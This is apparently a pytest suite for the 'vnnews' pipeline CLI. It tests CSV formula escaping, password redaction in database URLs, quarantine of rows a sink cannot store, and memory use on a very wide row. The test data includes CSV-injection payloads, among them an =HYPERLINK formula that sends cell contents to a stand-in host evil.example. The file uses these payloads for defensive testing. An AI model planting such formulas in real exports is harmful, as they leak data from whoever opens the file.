"""The ``vnnews`` command against hostile data on the output side: formulas in CSV cells, passwords of any
characters in the database URL, rows one sink cannot store, one very wide row."""

from __future__ import annotations

import csv
import io
import json
import random
import string
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote, unquote

import pytest
import yaml

from pipeline.config import OutputConfig
from pipeline.io.writers import PG_INDEX_TEXT_BYTES, open_sink
from tests.conftest import postgres_url, unique_table, write_jsonl
from tests.synthetic import articles

VNNEWS = str(Path(sys.executable).parent / "vnnews")
FAST = {"classify": {"enabled": False}, "summarize": {"enabled": False}, "runner": {"progress": "off"}}
# What makes a spreadsheet run a cell (OWASP's list, line feed, NUL, full-width signs), after any spaces.
SIGNS = "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20"


def _config(tmp_path: Path, rows: list[dict] | Path, out: Path, name: str = "job.yaml", **sections) -> Path:
    source = rows if isinstance(rows, Path) else write_jsonl(tmp_path / f"{name}.in.jsonl", rows)
    data = {"input": {"path": str(source)}, "output": {"path": str(out)}, **json.loads(json.dumps(FAST))}
    for key, value in sections.items():
        data.setdefault(key, {}).update(value)
    path = tmp_path / name
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def _vnnews(*args: str, timeout: float = 180) -> subprocess.CompletedProcess:
    return subprocess.run([VNNEWS, *args], capture_output=True, text=True, timeout=timeout)


def _one_paragraph(proc: subprocess.CompletedProcess, code: int) -> str:
    assert proc.returncode == code, proc.stderr
    assert "Traceback" not in proc.stderr and proc.stderr.startswith("error: "), proc.stderr
    return proc.stderr


# --- CSV: cells a spreadsheet would run --------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "   =1+1", "\u00a0=1+1", "\n=1", "=1\n=2", "\uff1dSUM(1)", "'=already quoted", "''@twice", "-", "@"]
PLAIN = ["-5", "+1.5e3", "Tin nóng: =không phải công thức", "'quoted but harmless", "a,b;c", ""]


def _hostile_csv_rows() -> list[dict]:
    rows = []
    for n, (article, text) in enumerate(zip(articles(len(FORMULAS) + len(PLAIN)), FORMULAS + PLAIN, strict=True)):
        rows.append({**article, "id": f"{text}#{n}", "title": text, "topic": text, "summary": text, "note": text,
                     "tags": [text], f"{text}|field": n})
    return rows


def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _runs_in_a_spreadsheet(cell: str) -> bool:
    """Independent of the product: a cell whose first character, or first after spaces, is a formula sign,
    and that is not a plain number."""
    try:
        float(cell)
        return False
    except ValueError:
        return bool(cell) and (cell[0] in SIGNS or cell.lstrip()[:1] in SIGNS)


def test_csv_cells_and_names_that_a_spreadsheet_would_run_are_escaped_and_read_back_as_written(tmp_path):
    rows = _hostile_csv_rows()
    out = tmp_path / "out" / "res.csv"
    proc = _vnnews("run", str(_config(tmp_path, rows, out)))
    assert proc.returncode == 0, proc.stderr
    cells = _cells(out)
    quoted = io.StringIO(newline="")
    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerows(cells)
    assert out.read_bytes().decode("utf-8") == quoted.getvalue()  # every cell quoted (OWASP)
    assert not [cell for row in cells for cell in row if _runs_in_a_spreadsheet(cell)]
    header = cells[0]
    written = [dict(zip(header, row, strict=True)) for row in cells[1:]]  # (in input order)
    for row, text in zip(written, FORMULAS + PLAIN, strict=True):  # extra fields are written untouched
        assert row["note"] == (escape := "'" + text if text in FORMULAS else text)
        assert json.loads(row["tags"]) == [text]  # (JSON text begins with '[': never a formula)
        assert text not in FORMULAS or escape + "|field" in header
    # The product reads its own file back as it was given: an upsert keeps every earlier row unchanged.
    assert [r["note"] for r in open_sink(OutputConfig(path=out)).read_rows()] == [r["note"] for r in rows]
    changed = [{**rows[0], "id": "new#", "title": "=1+2"}]
    proc = _vnnews("run", str(_config(tmp_path, changed, out, "upsert.yaml", output={"mode": "upsert"})))
    assert proc.returncode == 0, proc.stderr
    after = _cells(out)
    assert after[: len(cells)] == cells[: len(cells)] and len(after) == len(cells) + 1  # no quote added twice
    # output.csv_formulas: keep writes the cells as they are
    keep = tmp_path / "keep" / "res.csv"
    proc = _vnnews("run", str(_config(tmp_path, rows, keep, "keep.yaml", output={"csv_formulas": "keep"})))
    assert proc.returncode == 0, proc.stderr
    assert [r[header.index("note")] for r in _cells(keep)[1:]] == FORMULAS + PLAIN


def test_a_bad_csv_formulas_setting_is_a_config_error(tmp_path):
    proc = _vnnews("run", str(_config(tmp_path, articles(2), tmp_path / "o.csv", output={"csv_formulas": "strip"})))
    message = _one_paragraph(proc, 2)
    assert "output.csv_formulas" in message and "'escape'" in message and "'keep'" in message


# --- passwords of any characters -----------------------------------------------------------------------

# (password as written in the URL, whether the URL still reaches the server): the test server trusts every login.
PASSWORDS = [
    ("pa'ss\"w0rd", True),
    (quote("p@ss:w/rd%x", safe=""), True),
    ("mật khẩu#1 tab\there", True),
    ("%2541%25zz-secret", True),
    ("semi;colon&amp=x?y", True),
    ("p/ss:w#rd?x", True),
]


def _forms(written: str) -> set[str]:
    return {form for form in (written, unquote(written)) if len(form) >= 3}


def _leaks(proc: subprocess.CompletedProcess, folder: Path, secret: str) -> list[str]:
    found = [f"output of {proc.args[1]}" for form in _forms(secret) if form in proc.stdout + proc.stderr]
    for path in folder.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            found += [str(path) for form in _forms(secret) if form.encode() in data or
                      json.dumps(form)[1:-1].encode() in data]
    return found


@pytest.mark.parametrize(("secret", "reaches"), PASSWORDS, ids=[f"password{i}" for i in range(len(PASSWORDS))])
def test_a_password_of_any_characters_never_reaches_a_file_or_the_terminal(tmp_path, secret, reaches):
    server = postgres_url()
    good = server.replace("://postgres@", f"://postgres:{secret}@")
    bad = good.rsplit(":", 1)[0] + ":9/postgres"  # a port nothing listens on
    in_query = server + f"?password={quote(secret, safe='')}"
    for name, url, code in (("good", good, 0 if reaches else 5), ("bad", bad, 5), ("query", in_query, 0)):
        out = tmp_path / name
        cfg = _config(tmp_path, articles(3), out / "res", f"{name}.yaml",
                      output={"format": "sql", "url": url, "table": unique_table()})
        shown = _vnnews("config", "show", str(cfg))
        assert shown.returncode == 0 and not _leaks(shown, out, secret), shown.stdout
        assert "***" in shown.stdout
        proc = _vnnews("run", str(cfg))
        if code:
            _one_paragraph(proc, code)
        else:
            assert proc.returncode == 0, proc.stderr
            assert "***" in next(out.glob("*.config.yaml")).read_text(encoding="utf-8")
        assert not _leaks(proc, out, secret)


@pytest.mark.parametrize("secret", ["p@ss/w:rd#frag", "@start", "end@", "a@b@c-d"])
def test_a_password_with_a_raw_at_sign_is_a_config_error_that_shows_no_part_of_it(tmp_path, secret):
    """URL readers end the password at its first '@' and take the rest for the host, which a driver's error then
    quotes: refused before any work (exit 2), saying to write it as %40, with no piece of it shown."""
    url = postgres_url().replace("://postgres@", f"://postgres:{secret}@")
    cfg = _config(tmp_path, articles(3), tmp_path / "out" / "res", output={"format": "sql", "url": url})
    pieces = {p for p in secret.split("@") if len(p) >= 3} | {secret}
    for command in ("config", "run"):
        proc = _vnnews(command, *(["show"] if command == "config" else []), str(cfg))
        message = _one_paragraph(proc, 2)
        assert "output.url" in message and "%40" in message
        assert not any(piece in proc.stdout + proc.stderr for piece in pieces)
    assert not (tmp_path / "out").exists()


# --- rows one sink cannot store ----------------------------------------------------------------------

SINKS = ["jsonl", "csv", "parquet", "sqlite", "postgresql"]


def _poison_rows() -> list[dict]:
    """Good rows around rows that some sink cannot store, with the sinks that refuse each."""
    good = articles(8)
    return [
        {**good[0], "id": "good-0"},
        {**good[1], "id": "nul\x00key", "_refused_by": ["postgresql"]},
        {**good[3], "id": "https://example.vn/" + "a" * 6000, "_refused_by": ["postgresql"]},
        # an input's own summary, topic and topic_score are kept as input_summary, ... (docs/inputs.md), in the
        # row's JSON, out of the typed and indexed columns: stored everywhere
        {**good[2], "id": "good-2", "summary": "Tóm\x00tắt"},
        {**good[4], "id": "good-4", "topic": "t" * 3000},
        {**good[5], "id": "good-5", "topic_score": "cao"},
        {**good[6], "id": "good-6", "meta": {"nul": "a\x00b", "big": 2**63 - 1}, "tags": ["x"]},
        {**good[7], "id": "good-7"},
        # an index entry's bound, with text no compression shrinks: the longest key PostgreSQL stores, and one more
        {**good[1], "id": _incompressible(PG_INDEX_TEXT_BYTES)},
        {**good[2], "id": _incompressible(PG_INDEX_TEXT_BYTES + 1), "_refused_by": ["postgresql"]},
    ]


def _incompressible(size: int) -> str:
    rng = random.Random(size)
    return "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(size))


def _output(tmp_path: Path, sink: str) -> tuple[dict, OutputConfig]:
    if sink == "postgresql":
        section = {"path": str(tmp_path / "out" / "res"), "format": "sql", "url": postgres_url(),
                   "table": unique_table()}
    else:
        section = {"path": str(tmp_path / "out" / f"res.{ {'sqlite': 'db'}.get(sink, sink) }")}
    return section, OutputConfig(**section)


@pytest.mark.parametrize("sink", SINKS)
def test_a_row_one_sink_cannot_store_is_quarantined_and_the_rest_is_written(tmp_path, sink):
    rows = _poison_rows()
    source = write_jsonl(tmp_path / "in.jsonl", [{k: v for k, v in r.items() if k != "_refused_by"} for r in rows])
    refused = [r["id"] for r in rows if sink in r.get("_refused_by", ())]
    section, config = _output(tmp_path, sink)
    cfg = _config(tmp_path, source, Path(section["path"]), output=section)
    for _ in range(2):  # and the same command again: up to date, never a failing table
        proc = _vnnews("run", str(cfg))
        assert proc.returncode == 0, proc.stderr
    quarantine = next((tmp_path / "out").glob("*.quarantine.jsonl"))
    entries = [json.loads(line) for line in quarantine.read_text(encoding="utf-8").splitlines()]
    assert sorted(e["id"] for e in entries) == sorted(refused)
    assert all(e["reason"].startswith("cannot be stored in") and e["source"] == "output" for e in entries)
    written = {str(r["id"]): r for r in open_sink(config).read_rows()}
    assert sorted(written) == sorted(r["id"] for r in rows if r["id"] not in refused)
    kept = written["good-6"]
    meta = kept.get("meta") if sink != "csv" else json.loads(kept["meta"])
    assert meta == {"nul": "a\x00b", "big": 2**63 - 1}
    manifest = json.loads(next((tmp_path / "out").glob("*.manifest.json")).read_text(encoding="utf-8"))
    assert (manifest["counts"]["written"], manifest["counts"]["quarantined"]) == (len(rows) - len(refused),
                                                                                   len(refused))


def test_rows_postgresql_cannot_store_count_towards_the_quarantine_threshold(tmp_path):
    rows = [{**r, "id": f"nul\x00{n}"} for n, r in enumerate(articles(3))] + articles(1)
    section, _ = _output(tmp_path, "postgresql")
    cfg = _config(tmp_path, rows, Path(section["path"]), output=section, runner={"max_quarantined_fraction": 0.5})
    message = _one_paragraph(_vnnews("run", str(cfg)), 6)
    assert "cannot be stored in PostgreSQL" in message


# --- one very wide row ---------------------------------------------------------------------------------

def _peak_mb(cfg: Path) -> float:
    """Peak RSS (MB) of `vnnews run cfg`, measured by a fresh process whose only child it is."""
    probe = ("import resource, subprocess, sys; rc = subprocess.run(sys.argv[1:]).returncode; "
             "print(rc, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024)")
    proc = subprocess.run([sys.executable, "-c", probe, VNNEWS, "run", str(cfg), "-q"], capture_output=True,
                          text=True, timeout=600)
    rc, peak = proc.stdout.split()
    assert rc == "0", proc.stderr
    return float(peak)


@pytest.mark.parametrize("sink", ["parquet", pytest.param("jsonl", marks=pytest.mark.slow),
                                  pytest.param("csv", marks=pytest.mark.slow),
                                  pytest.param("sqlite", marks=pytest.mark.slow)])
def test_one_row_with_100000_fields_costs_memory_in_proportion_to_its_size(tmp_path, sink):
    """500 rows, one with 100,000 extra fields (2 MB of JSON): the run's peak memory grows by a small multiple of
    that row's size over the same job without it (Parquet: 1.3 GB more, before extra fields became one column)."""
    rows = articles(500)
    wide = [dict(r) for r in rows]
    wide[250].update({f"f{j}": j for j in range(100_000)})
    suffix = {"sqlite": "db"}.get(sink, sink)
    narrow_peak = _peak_mb(_config(tmp_path, rows, tmp_path / "narrow" / f"res.{suffix}", "narrow.yaml"))
    wide_peak = _peak_mb(_config(tmp_path, wide, tmp_path / "wide" / f"res.{suffix}", "wide.yaml"))
    assert wide_peak - narrow_peak < 250, (narrow_peak, wide_peak)
